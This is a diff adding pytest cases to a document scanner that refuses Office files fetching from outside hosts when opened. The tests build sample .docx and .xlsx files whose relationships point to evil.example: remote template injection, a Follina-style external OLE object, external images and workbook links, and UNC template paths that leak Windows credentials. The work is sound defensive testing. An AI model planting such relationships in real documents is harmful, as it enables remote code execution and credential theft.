@@ -3,9 +3,11 @@ locked, withheld with it — and every way around that an editor (or an attacker
 from __future__ import annotations
 
 import binascii
+import io
 import json
 from collections import Counter
 import os
+import zipfile
 import zlib
 
 import pytest
@@ -69,6 +71,49 @@ def _object_stream(filters: bytes, text: bytes = b"<< /S /JavaScript /JS (app.al
 ])
 def test_a_pdf_whose_dictionaries_the_scan_cannot_read_is_refused(data):
     assert "无法检查" in filetypes.problem(".pdf", data)
+
+
+RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _with_relationship(main_part: str, rels: str, kind: str, target: str) -> bytes:
+    """An Office file whose part ``rels`` relates (TargetMode External) to ``target`` as ``kind``."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr(main_part, "<x/>")
+        archive.writestr(rels, '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                               f'relationships"><Relationship Id="rId9" Type="{RELS}{kind}" Target="{target}" '
+                               'TargetMode="&#69;xternal"/></Relationships>')
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("suffix,data", [
+    # Word fetches the remote template on opening, and runs its macros: remote template injection
+    (".docx", _with_relationship("word/document.xml", "word/_rels/settings.xml.rels", "attachedTemplate",
+                                 "https://evil.example/t.dotm")),
+    # CVE-2022-30190 (Follina): an external OLE object, no embedded part to see
+    (".docx", _with_relationship("word/document.xml", "word/_rels/document.xml.rels", "oleObject",
+                                 "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html")),
+    (".docx", _with_relationship("word/document.xml", "word/_rels/document.xml.rels", "image", "https://evil.example/p.png")),
+    (".xlsx", _with_relationship("xl/workbook.xml", "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath",
+                                 "https://evil.example/book.xlsx")),
+    # a UNC path: Word connects to the host (and offers it the reader's Windows credentials)
+    (".docx", _with_relationship("word/document.xml", "word/_rels/settings.xml.rels", "attachedTemplate",
+                                 "file://evil.example/share/t.dotm")),
+    (".docx", _with_relationship("word/document.xml", "word/_rels/settings.xml.rels", "attachedTemplate",
+                                 "\\\\evil.example\\share\\t.dotm")),
+])
+def test_an_office_file_that_fetches_from_elsewhere_when_opened_is_refused(suffix, data):
+    assert "外部资源" in filetypes.problem(suffix, data)
+
+
+@pytest.mark.parametrize("kind,target", [("hyperlink", "https://www.gov.cn/"),
+                                         ("attachedTemplate", "file:///C:/Users/x/AppData/Roaming/Microsoft/Templates/Normal.dotm"),
+                                         ("attachedTemplate", "C:\\公文模板\\红头.dotx")])
+def test_an_office_files_hyperlink_or_template_of_its_authors_disk_passes(kind, target):
+    data = _with_relationship("word/document.xml", "word/_rels/settings.xml.rels", kind, target)
+    assert filetypes.problem(".docx", data) is None
 
 
 def test_an_image_codec_on_an_image_stream_passes():
